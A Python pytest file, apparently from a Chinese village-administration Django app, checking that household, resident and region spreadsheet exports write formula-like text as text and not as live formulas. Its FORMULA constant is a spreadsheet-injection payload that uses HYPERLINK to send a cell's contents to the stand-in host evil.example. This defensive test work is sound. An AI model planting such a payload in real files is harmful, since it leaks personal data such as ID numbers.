"""Exports never turn typed text into a formula: a name, address or 组别 that begins with "=" (typed on a page or
imported) would otherwise run in the spreadsheet of whoever opens the export — for a cadre who may reveal, next to
full ID numbers a HYPERLINK or WEBSERVICE formula could send out (CSV/formula injection)."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests import factories
from tests.factories import signed_in_client
from tests.people import factories as pf

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&H2,"点击")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_the_register_export_writes_formula_like_text_as_text(township):
    household = pf.household(township.grid_a1, head_name=FORMULA, address=FORMULA, number="=1+1")
    pf.resident(household, name="=2+2")
    secretary = factories.user_with_role("village_secretary", township.village_a)
    response = signed_in_client(secretary).get("/people/register/export.xlsx")
    assert response.status_code == 200
    assert "<f>" not in _sheet_xml(response.content)
    wb = load_workbook(io.BytesIO(response.content))
    households = list(wb["户"].iter_rows(min_row=2, values_only=True))
    assert households[0][1:4] == ("=1+1", FORMULA, FORMULA)
    names = [r[3] for r in wb["居民"].iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted([FORMULA, "=2+2"])


def test_the_region_export_writes_formula_like_text_as_text(township):
    from xiangzhi.regions.services import region_create

    region_create(code="141029201203", name=FORMULA, parent=township.town)
    leader = factories.user_with_role("town_leader", township.town)
    response = signed_in_client(leader).get("/regions/export.xlsx")
    assert response.status_code == 200
    assert "<f>" not in _sheet_xml(response.content)
    ws = load_workbook(io.BytesIO(response.content)).active
    assert FORMULA in [r[1] for r in ws.iter_rows(min_row=2, values_only=True)]
